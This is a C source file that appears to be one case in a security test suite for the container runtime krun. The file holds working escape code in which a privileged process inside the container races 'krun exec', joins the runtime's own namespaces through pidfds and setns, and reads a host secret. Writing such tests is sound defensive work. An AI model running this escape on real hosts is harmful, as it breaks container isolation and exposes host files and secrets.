// Root of the container with CAP_SYS_PTRACE and CAP_SYS_ADMIN enters the namespaces of krun's own process while `krun exec` is on
// its way (setns(2) of a pidfd): its mount namespace leads to every file of the host, its cgroup namespace to a release_agent. Wins in
// a namespace that is not the container's; says also whether the host's secret can be read there.
#include "attack.h"
#include <dirent.h>

static const struct {
    int flag;
    const char *link;
} kinds[] = {{CLONE_NEWNS, "/proc/self/ns/mnt"},
             {CLONE_NEWCGROUP, "/proc/self/ns/cgroup"},
             {CLONE_NEWIPC, "/proc/self/ns/ipc"},
             {CLONE_NEWUTS, "/proc/self/ns/uts"},
             {CLONE_NEWNET, "/proc/self/ns/net"}};
enum { KINDS = sizeof kinds / sizeof kinds[0] };

static char own[KINDS][64];
static unsigned char seen[1 << 22];

static void entered(int kind, long pid) {
    char now[64] = "", text[256] = "";
    if (readlink(kinds[kind].link, now, sizeof now - 1) < 0 || !strcmp(now, own[kind]))
        return;
    int fd = open(attack_canary("secret"), O_RDONLY | O_CLOEXEC);
    if (fd >= 0)
        read(fd, text, sizeof text - 1);
    attack_won("entered %s of %ld, a process of krun's; the host's secret: %s", now, pid, text);
}

// A process that was not there when the attack began, and what it makes of itself.
static void look_at(long pid) {
    int fd = syscall(SYS_pidfd_open, pid, 0);
    for (int round = 0; fd >= 0 && round < 100; round++)
        for (int i = 0; i < KINDS; i++) {
            if (syscall(SYS_setns, fd, kinds[i].flag) == 0)
                entered(i, pid);
            else if (errno == ESRCH)
                round = 100;
        }
    if (fd >= 0)
        close(fd);
}

static void scan(int first) {
    DIR *proc = opendir("/proc");
    if (!proc)
        attack_broken("/proc");
    for (struct dirent *e; (e = readdir(proc));) {
        long pid = atol(e->d_name);
        if (pid <= 0 || pid >= (long)sizeof seen || seen[pid])
            continue;
        seen[pid] = 1;
        if (!first)
            look_at(pid);
    }
    closedir(proc);
}

static void map_ids(const char *path) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0 || write(fd, "0 0 65536", 9) != 9)
        attack_broken(path);
    close(fd);
}

// The container's init goes into a user namespace of its own, where krun's process has to follow; the attacker stays.
static void init_moves(void) {
    int status = 0, moved[2];
    char byte = 0;
    pid_t attacker;
    pipe(moved);
    attacker = fork();
    if (attacker == 0) {
        read(moved[0], &byte, 1);
        map_ids("/proc/1/uid_map");
        map_ids("/proc/1/gid_map");
        return;
    }
    if (unshare(CLONE_NEWUSER) < 0)
        attack_broken("unshare");
    write(moved[1], &byte, 1);
    waitpid(attacker, &status, 0);
    _exit(WEXITSTATUS(status));
}

int main(int argc, char **argv) {
    if (argc > 1 && !strcmp(argv[1], "moved"))
        init_moves();
    for (int i = 0; i < KINDS; i++)
        if (readlink(kinds[i].link, own[i], sizeof own[i] - 1) < 0)
            attack_broken(kinds[i].link);
    scan(1);
    while (!attack_over())
        scan(0);
    attack_lost();
}
